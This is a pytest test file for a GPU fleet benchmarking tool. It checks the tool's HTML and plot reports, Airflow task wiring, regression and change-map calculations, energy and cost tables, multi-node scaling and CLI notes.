    for svg in svgs:
        root = ET.parse(svg).getroot()
        assert root.tag == "{http://www.w3.org/2000/svg}svg" and root.get("id") == svg.stem
    html = (out / "report.html").read_text()
    assert all(f'href="{svg.name}"' in html for svg in svgs)
    from fleetbench.report import write_report as write_file_report

    write_file_report(out, parse_filters(dag_id="fleet_benchmark"), engine=history)
    assert sorted(p.stem for p in out.glob("plot-*.png")) == [p.stem for p in svgs]
    assert not list(out.glob("plot-*.svg"))
    with pytest.raises(RuntimeError, match="were not stored"):
        write_report(plan, None)  # store failed: nothing new to report


def test_a_failed_comparison_still_gets_its_report_then_fails_the_task(history, data_dir, monkeypatch):
    from fleetbench.airflow import pipeline
    from fleetbench.regression.night import NothingToAccept

    plan = {"run": {"dag_id": "fleet_benchmark", "run_id": run_id(4)}, "hosts": [], "cases": []}
    stored = {"run_id": run_id(4), "total": 8, "ok": 5, "failed": 3, "skipped": 0}
    calls = []

    def fails(*args):
        calls.append(args)
        raise NothingToAccept("accept_baselines: 'gpu-x' matched no ok result of fleet_benchmark")

    monkeypatch.setattr(pipeline, "detect_regressions", fails)
    html = data_dir / "reports" / "report.html"
    with pytest.raises(NothingToAccept, match="gpu-x"):
        pipeline.assess_and_report(plan, stored, "ops")
    assert calls == [(plan, stored, "ops")] and html.is_file()
    # a comparison that works: its summary next to the report's
    monkeypatch.setattr(pipeline, "detect_regressions", lambda *a: {"run_id": run_id(4), "regressions": 0})
    summary, regressions = pipeline.assess_and_report(plan, stored)
    assert summary["report"] == str(html) and regressions == {"run_id": run_id(4), "regressions": 0}
    with pytest.raises(RuntimeError, match="were not stored"):  # store failed: nothing to compare or report
        pipeline.assess_and_report(plan, None)


def test_dag_reports_after_store_and_updates_the_warehouse_asset():
    from airflow.dag_processing.dagbag import DagBag

    dag = DagBag(dag_folder=str(Path(__file__).resolve().parents[2] / "dags")).dags["fleet_benchmark"]
    task = dag.get_task("report")
    assert "store" in task.upstream_task_ids
    assert task.trigger_rule == "all_done"  # a failed store still gets a task that says why
    assert [(o.name, o.uri) for o in task.outlets] == [("fleetbench_warehouse", "x-fleetbench://warehouse/benchmark_results")]
    assert task in dag.leaves  # a failed leaf fails the run: a failed report fails it, beside `outcome`
    assert "report" not in dag.get_task("outcome").upstream_task_ids


def test_mig_rows_show_their_profile_and_skip_classes(engine, tmp_path):
    """A case on MIG instances says its profile in the throughput table and the results CLI; cases that could not
    have their devices count under their skip class."""
    from fleetbench.cli import format_table
    from fleetbench.warehouse import fetch_results, store_run, upgrade

    upgrade(engine)
    rows = [result_row("cmd.g1.mig-1g.20gb", host="a100", mig_profile="1g.20gb", mig_instances=1),
            result_row("cmd.g1", host="a100", ips=90.0),
            result_row("cmd.g1.mig-3g.40gb", host="a100", ips=None, status="skipped", failure_class="mig_unavailable",
                       mig_profile="3g.40gb", mig_instances=1),
            result_row("cmd.g4", host="a100", ips=None, status="skipped", failure_class="mig_enabled", num_gpus=4)]
    store_run(engine, plain_run_row("r1"), [], rows)
    _, page = written_page(tmp_path, engine)
    shown = {r["case_key"][0]: r["mig_profile"][0] for r in page.tables["throughput-table"]}
    assert shown == {"cmd.g1.mig-1g.20gb": "1g.20gb", "cmd.g1": "–"}
    failures = {r["failure_class"][0]: r["count"][1] for r in page.tables["failures-table"]}
    assert failures == {"mig_unavailable": 1, "mig_enabled": 1}
    table = format_table(sorted(fetch_results(engine, run_id="r1"), key=lambda r: r["case_key"]))
    assert [line.split()[2:4] for line in table.splitlines()[2:]] == [
        ["1", "ok"], ["1x", "MIG"], ["1x", "MIG"], ["4", "skipped"]]
    assert "1x MIG 3g.40gb  skipped (mig_unavailable)" in table


def test_report_judges_and_labels_each_primary_metric(engine, tmp_path):
    """An NCCL bus bandwidth drop and a latency rise are regressions in red, labelled with their unit; the latest
    run's cost and energy per GB moved come from the rows."""
    from datetime import timedelta

    from fleetbench.regression import assess_run, store_findings
    from fleetbench.warehouse import store_run, upgrade

    upgrade(engine)
    day0 = datetime(2026, 11, 1, 2, tzinfo=timezone.utc)
    for night in range(14):
        off = night >= 12
        when = (day0 + timedelta(days=night)).isoformat()
        common = {"run_id": f"m{night}", "logical_date": when, "started_at": when, "finished_at": when,
                  "ips": None, "duration_s": 60.0}
        rows = [result_row("nccl.all_reduce", host="gpu-a", harness="nccl_tests", metric="avg_busbw",
                           value=(150.0 if off else 200.0) + night % 2, unit="GB/s", better="higher",
                           cost_usd=0.6, energy_source="measured", energy_j=36_000.0, **common),
                result_row("svc.latency", host="gpu-a", harness="command", metric="p99_latency",
                           value=(14.0 if off else 10.0) + night % 2 * 0.05, unit="ms", better="lower",
                           cost_usd=0.01, **common)]
        store_run(engine, {**plain_run_row(f"m{night}"), "logical_date": when}, [], rows)
    store_findings(engine, "fleet_benchmark", "m13", assess_run(engine, "fleet_benchmark", "m13").findings)
    _, page = written_page(tmp_path, engine, since="2026-11-01", until="2026-11-30")
    regs = {r["case"][0]: r for r in page.tables["regressions-table"]}
    assert regs["nccl.all_reduce"]["metric"][0] == "avg_busbw [GB/s] ↑"
    assert regs["nccl.all_reduce"]["value"][1] == pytest.approx(151.0)
    assert regs["svc.latency"]["metric"][0] == "p99_latency [ms] ↓" and regs["svc.latency"]["delta_pct"][1] > 30
    text = next(Path(tmp_path / "out").glob("*.html")).read_text()
    cells = dict(re.findall(r'data-col="([^"]+)" data-value="([^"]+)" style="background:rgb\(255,', text))
    assert set(cells) == {"nccl.all_reduce", "svc.latency"}  # both red: worse in their own direction
    assert float(cells["nccl.all_reduce"]) < 0 < float(cells["svc.latency"])
    costs = page.tables["unit-cost-table"]
    assert len(costs) == 1 and costs[0]["metric_text"][0] == "avg_busbw [GB/s]" and costs[0]["per"][0] == "GB"
    assert costs[0]["cost_per_unit_usd"][1] == pytest.approx(0.6 / (151.0 * 60.0))  # $ / GB moved, night 13
    assert costs[0]["energy_per_unit_wh"][1] == pytest.approx(10.0 / (151.0 * 60.0))
    assert (costs[0]["measured"][1], costs[0]["estimated"][1]) == (1, 0)


def test_the_unit_cost_table_counts_measured_and_estimated_energy(engine, tmp_path):
    """Wh per unit of one GPU model sums the cases' energy as it came: a host measured by NVML and one estimated from
    the TDP are one figure, and the table says how many of each went into it."""
    from fleetbench.warehouse import store_run, upgrade

    upgrade(engine)
    common = {"harness": "nccl_tests", "metric": "avg_busbw", "value": 200.0, "unit": "GB/s", "better": "higher",
              "ips": None, "duration_s": 60.0, "cost_usd": 0.6}
    rows = [result_row("nccl.all_reduce", host="gpu-a", energy_source="measured", energy_j=36_000.0, **common),
            result_row("nccl.all_reduce", host="gpu-b", energy_source="estimated", energy_j=72_000.0, **common),
            result_row("nccl.all_gather", host="gpu-b", energy_source="none", energy_j=None, **common)]
    store_run(engine, plain_run_row("r1"), [], rows)
    _, page = written_page(tmp_path, engine)
    [costs] = page.tables["unit-cost-table"]
    assert (costs["n"][1], costs["measured"][1], costs["estimated"][1]) == (3, 1, 1)
    assert costs["energy_per_unit_wh"][1] == pytest.approx(30.0 / (2 * 200.0 * 60.0))


def test_multi_node_rows_show_their_scaling_across_nodes(engine, tmp_path):
    """Multi-node results (README "Multi-node cases") get their own table: total images/sec and the efficiency
    across nodes per model, batch, GPUs per node and nodes; a fleet without them shows no such section."""
    from fleetbench.warehouse import store_run, upgrade

    upgrade(engine)
    rows = nightly_rows(0)
    written, page = written_page(tmp_path, engine)
    assert "node-scaling-table" not in page.tables
    base = rows[0]
    multi = [{**base, "case_key": f"{base['case_key']}.n2.{h}", "host": h.split("+")[0], "nodes": 2,
              "host_set": h.replace("+", ","), "images_per_sec": ips, "node_efficiency": eff,
              "node_baseline_images_per_sec": ips / (2 * eff)}
             for h, ips, eff in (("a+b", 180.0, 0.9), ("c+d", 140.0, 0.7))]
    store_run(engine, run_row(0, rows + multi), [], rows + multi)
    report = report_of(engine)
    [row] = report["node_scaling"]
    assert (row["model"], row["nodes"], row["n"], row["sets"]) == (base["model"], 2, 2, 2)
    assert (row["images_per_sec"], row["mean"], row["min"], row["max"]) == pytest.approx((160.0, 0.8, 0.7, 0.9))
    _, page = written_page(tmp_path, engine)
    [cells] = page.tables["node-scaling-table"]
    assert cells["nodes"][0] == "2" and cells["mean"][1] == pytest.approx(0.8) and cells["host_set"][0] == "c,d"


def test_two_dags_benchmarking_one_host_are_two_series_and_two_cells(engine):
    """A quick DAG beside the nightly one runs the same case on the same host at its own settings: the throughput
    series and the change map mixed both into one (a steady host read -50 % every other night, a red cell with no
    finding), where the regressions and /metrics keep them apart."""
    from datetime import timedelta

    from fleetbench.warehouse import store_run, upgrade

    upgrade(engine)
    day0 = datetime(2026, 10, 1, 2, tzinfo=timezone.utc)
    for night in range(5):
        for dag, ips, hour in (("nightly", 900.0 + night, 0), ("quick", 450.0 + night, 6)):
            when = (day0 + timedelta(days=night, hours=hour)).isoformat()
            common = {"dag_id": dag, "run_id": f"{dag}-{night}", "logical_date": when, "started_at": when,
                      "finished_at": when}
            store_run(engine, {**plain_run_row(f"{dag}-{night}", dag_id=dag), "logical_date": when}, [],
                      [result_row("c", host="a", ips=ips, **common)])
    report = report_of(engine, since="2026-10-01", until="2026-10-06")
    got = {s["label"]: (s["n"], s["latest"], s["previous"]) for s in report["throughput"]}
    assert got == {"a · c · nightly": (5, 904.0, 903.0), "a · c · quick": (5, 454.0, 453.0)}
    cells = report["change_map"]["cells"]["a"]
    assert sorted(cells) == ["c · nightly", "c · quick"]
    assert cells["c · nightly"]["delta_pct"] == pytest.approx((904 - 901.5) / 901.5 * 100)
    assert cells["c · quick"]["delta_pct"] == pytest.approx((454 - 451.5) / 451.5 * 100)
    one = report_of(engine, since="2026-10-01", until="2026-10-06", dag_id="quick")  # one DAG: labels as before
    assert [s["label"] for s in one["throughput"]] == ["a · c"] and list(one["change_map"]["cells"]["a"]) == ["c"]


def test_a_hosts_newest_check_is_the_one_collected_last_as_metrics_has_it(engine):
    check_newest_check_is_the_one_collected_last(engine)


def check_newest_check_is_the_one_collected_last(engine):
    """gpu-a degraded at the 11-05 night's check, repaired, then the 10-31 night backfilled (its check healthy, taken
    after the repair): the report read the degraded check (newest night) while /metrics said ready (newest check).
    A check without a collection time (a row written without one) is never the newest (PostgreSQL sorts NULL
    first in a descending order, SQLite last). Also run on PostgreSQL (tests/integration)."""
    from attempts_contract import host_check
    from fleetbench.report.openmetrics import collect, render
    from fleetbench.warehouse import store_run, upgrade

    upgrade(engine)
    for run, day, checked, health, verdict in (("n05", "2026-11-05T02:00:00+00:00", "2026-11-05T02:01:00+00:00",
                                                "degraded", "degraded"),
                                               ("b31", "2026-10-31T02:00:00+00:00", "2026-11-06T09:00:00+00:00",
                                                "healthy", "ready"),
                                               ("n03", "2026-11-03T02:00:00+00:00", None, "unfit", "unfit")):
        store_run(engine, {**plain_run_row(run), "logical_date": day},
                  [host_check("550.1", checked, host="gpu-a", run_id=run, health=health, verdict=verdict)],
                  [result_row("c", run_id=run, host="gpu-a", logical_date=day)])
    [health] = report_of(engine, since="2026-10-30", until="2026-11-07")["fleet_health"]
    assert (health["run_id"], health["gpu_health"]) == ("b31", "healthy")
    metrics = render(collect(engine, now=datetime(2026, 11, 7, tzinfo=timezone.utc)))
    assert 'fleetbench_host_verdict{dag_id="fleet_benchmark",host="gpu-a",verdict="ready"} 1' in metrics


def test_change_map_baseline_is_the_newest_nights_of_the_range(engine, tmp_path, monkeypatch):
    """The change map reads only the range's newest CHANGE_MAP_NIGHTS nights: a year's range costs what a fortnight's
    does, and a baseline from long ago does not decide today's change. Past CHANGE_MAP_MAX_CELLS cells it says
    how many it counted (one past the cap) instead of drawing the map."""
    from datetime import timedelta

    from fleetbench.report import queries
    from fleetbench.warehouse import store_run, upgrade

    upgrade(engine)
    day0 = datetime(2026, 10, 1, 2, tzinfo=timezone.utc)
    # Nights 0-9 at 50 images/sec, 10-18 at 100, night 19 at 90; hosts b-e only run on the last night.
    for night in range(20):
        when = (day0 + timedelta(days=night)).isoformat()
        ips = 50.0 if night < 10 else 100.0 if night < 19 else 90.0
        common = {"run_id": f"n{night}", "logical_date": when, "started_at": when, "finished_at": when}
        rows = [result_row("c", host="a", ips=ips, **common)]
        if night == 19:
            rows += [result_row("c", host=h, **common) for h in "bcde"]
        store_run(engine, {**plain_run_row(f"n{night}"), "logical_date": when}, [], rows)
    assert queries.CHANGE_MAP_NIGHTS == 15
    report = report_of(engine, since="2026-10-01", until="2026-11-01")
    # The 14 nights before the newest in its last 15: 5 at 50, 9 at 100; the median is 100. All 19 would say 50.
    assert report["change_map"]["cells"]["a"]["c"]["delta_pct"] == pytest.approx(-10.0)
    assert report["change_map"]["cells"]["b"]["c"]["delta_pct"] is None  # one night: no baseline
    one_host = report_of(engine, since="2026-10-01", until="2026-11-01", host="a")
    assert one_host["change_map"]["cells"]["a"]["c"]["delta_pct"] == pytest.approx(-10.0)
    monkeypatch.setattr(queries, "CHANGE_MAP_MAX_CELLS", 3)
    report = report_of(engine, since="2026-10-01", until="2026-11-01")
    assert report["change_map"]["skipped"] == 4 and not report["change_map"]["cells"]
    _, page = written_page(tmp_path, engine, since="2026-10-01", until="2026-11-01")
    assert "change-map-skipped" in page.empties


def test_change_map_baseline_of_an_even_count_is_the_mean_of_the_middle_two(engine):
    from datetime import timedelta

    from fleetbench.warehouse import store_run, upgrade

    upgrade(engine)
    day0 = datetime(2026, 10, 1, 2, tzinfo=timezone.utc)
    for night, ips in enumerate((100.0, 100.0, 110.0, 110.0, 105.0)):
        when = (day0 + timedelta(days=night)).isoformat()
        common = {"run_id": f"n{night}", "logical_date": when, "started_at": when, "finished_at": when}
        store_run(engine, {**plain_run_row(f"n{night}"), "logical_date": when}, [],
                  [result_row("c", host="a", ips=ips, **common)])
    report = report_of(engine, since="2026-10-01", until="2026-11-01")
    # baseline median(100, 100, 110, 110) = 105: no change (the upper middle, 110, said -4.5 %)
    assert report["change_map"]["cells"]["a"]["c"]["delta_pct"] == pytest.approx(0.0)


def test_summary_counts_runs_as_dag_and_run_pairs(engine):
    """Two DAGs on one schedule have the same run ids (scheduled__<logical date>): four runs, not two."""
    from fleetbench.warehouse import store_run, upgrade

    upgrade(engine)
    for dag in ("fleet_a", "fleet_b"):
        for run in ("scheduled__2026-12-01T02:00:00+00:00", "scheduled__2026-12-02T02:00:00+00:00"):
            when = run.removeprefix("scheduled__")
            common = {"dag_id": dag, "run_id": run, "logical_date": when, "started_at": when, "finished_at": when}
            store_run(engine, {**plain_run_row(run, dag), "logical_date": when}, [], [result_row("c", **common)])
    report = report_of(engine, since="2026-12-01", until="2026-12-03")
    assert report["summary"]["runs"] == 4
    assert report_of(engine, since="2026-12-01", until="2026-12-03", host="h1")["summary"]["runs"] == 4
    assert not any(n.startswith("Only one run so far") for n in report["notes"])


def test_report_reads_no_metric_samples(engine):
    """The report and the view answer from benchmark_results' primary metric and the rollups: their latency does not
    grow with result_metrics (5 samples a result over a year is 35 million rows); bench/README says so."""
    from sqlalchemy import event, func, select

    from fleetbench.report import build_report
    from fleetbench.warehouse import store_run, upgrade
    from fleetbench.warehouse.rows import metric_sample_rows
    from fleetbench.warehouse.schema import result_metrics

    upgrade(engine)
    for night in range(3):
        rows = nightly_rows(night)
        samples = [m for r in rows if r["status"] == "ok" for m in metric_sample_rows(
            {k: r[k] for k in ("dag_id", "run_id", "host", "case_key")},
            [{"metric": "images_per_sec", "value": r["images_per_sec"], "unit": "images/s", "better": "higher"},
             {"metric": "step_p99_ms", "value": 12.0, "unit": "ms", "better": "lower"}])]
        store_run(engine, run_row(night, rows), [], rows, metric_rows=samples)
    with engine.connect() as conn:
        assert conn.execute(select(func.count()).select_from(result_metrics)).scalar() > 0
    statements: list[str] = []
    listener = lambda conn, cursor, statement, *args: statements.append(statement)  # noqa: E731
    event.listen(engine, "before_cursor_execute", listener)
    try:
        report = build_report(engine)
    finally:
        event.remove(engine, "before_cursor_execute", listener)
    assert report["state"] == "ok" and len(statements) > 20
    assert not [s for s in statements if "result_metrics" in s]


@pytest.mark.parametrize("since", ["9999-12-15", "9999-12-30", "9999-12-31T00:00:00"])
def test_a_window_in_the_last_month_of_9999_has_no_whole_month(history, since):
    """A `since` the filter accepts in December 9999: the whole months after it would start in year 10000 (an
    uncaught ValueError: a traceback from the CLI, HTTP 500 from the view)."""
    report = report_of(history, since=since)
    assert report["latest_run"] is None and report["hosts"] == []


def test_a_hosts_report_shows_the_node_scaling_of_every_set_it_is_in(engine):
    """A set's row is stored under its first host, and the report's per-host sections read the host's own rows: `report
    --host c` showed the node scaling of its own set c+d but not of ab+c, which it is in too (the report's regressions,
    `results --host` and `compare` have both). A host in sets only (b, d) has no match, and a note names its sets."""
    from fleetbench.warehouse import store_run, upgrade

    upgrade(engine)
    rows = nightly_rows(0)
    base = rows[0]
    multi = [{**base, "case_key": f"{base['case_key']}.n2.{h}", "host": h.split("+")[0], "nodes": 2,
              "host_set": h.replace("+", ","), "images_per_sec": ips, "node_efficiency": eff,
              "node_baseline_images_per_sec": ips / (2 * eff)}
             for h, ips, eff in (("a+b", 180.0, 0.9), ("c+d", 140.0, 0.7), ("ab+c", 100.0, 0.5))]
    store_run(engine, run_row(0, rows + multi), [], rows + multi)
    for host, sets, mean in (("a", 1, 0.9), ("ab", 1, 0.5), ("c", 2, 0.6)):
        [row] = report_of(engine, host=host)["node_scaling"]
        assert (row["sets"], row["n"]) == (sets, sets) and row["mean"] == pytest.approx(mean), host
    assert report_of(engine, host=base["host"])["node_scaling"] == []
    # the view's host drop-down offers the hosts only ever second in their sets too (the rollups have first hosts)
    hosts = report_of(engine)["options"]["hosts"]
    assert {"a", "b", "c", "d", "ab"} <= set(hosts) and hosts == sorted(hosts)
    # a host with no row of its own: no match, and a note that names its sets and where to find their rows
    report = report_of(engine, host="b")
    assert report["state"] == "no_match"
    assert any("b has no results of its own here, but is in multi-node sets (a,b)" in n for n in report["notes"])
    assert any("in multi-node sets (c,d), whose" in n for n in report_of(engine, host="d")["notes"])
    assert not any("multi-node" in n for n in report_of(engine, host="zz")["notes"])


def test_the_no_match_note_names_a_results_command_that_lists_the_sets_rows(engine, tmp_path, monkeypatch, capsys):
    """The note sent the operator to `fleetbench results --host b`, which reads the latest run only: with a later
    night of the set's first host alone, it printed "no results of host b in run ...". The command it names now has
    the report's window (or --all) and DAG, and run as written it lists the set's row."""
    import shlex

    from fleetbench.cli import main
    from fleetbench.warehouse import store_run, upgrade

    upgrade(engine)
    base = nightly_rows(0)[0]
    multi = {**base, "case_key": f"{base['case_key']}.n2.a+b", "host": "a", "nodes": 2, "host_set": "a,b"}
    store_run(engine, run_row(0, [multi]), [], [multi])
    later = [{**r, "host": "a"} for r in nightly_rows(1)[:1]]
    store_run(engine, run_row(1, later), [], later)
    for filters in ({}, {"dag_id": base["dag_id"]}, {"since": "2026-10-01", "until": "2026-11-30"}):
        [note] = [n for n in report_of(engine, host="b", **filters)["notes"] if "multi-node sets" in n]
        command = note.split("`")[1]
        assert command.startswith("fleetbench results --host b ") and ("--all" in command) == ("since" not in filters)
        monkeypatch.setenv("FLEETBENCH_WAREHOUSE_URL", str(engine.url))
        capsys.readouterr()
        assert main([*shlex.split(command)[1:], "--format", "json"]) in (0, None)
        [row] = json.loads(capsys.readouterr().out)
        assert (row["host"], row["host_set"], row["case_key"]) == ("a", "a,b", multi["case_key"]), command
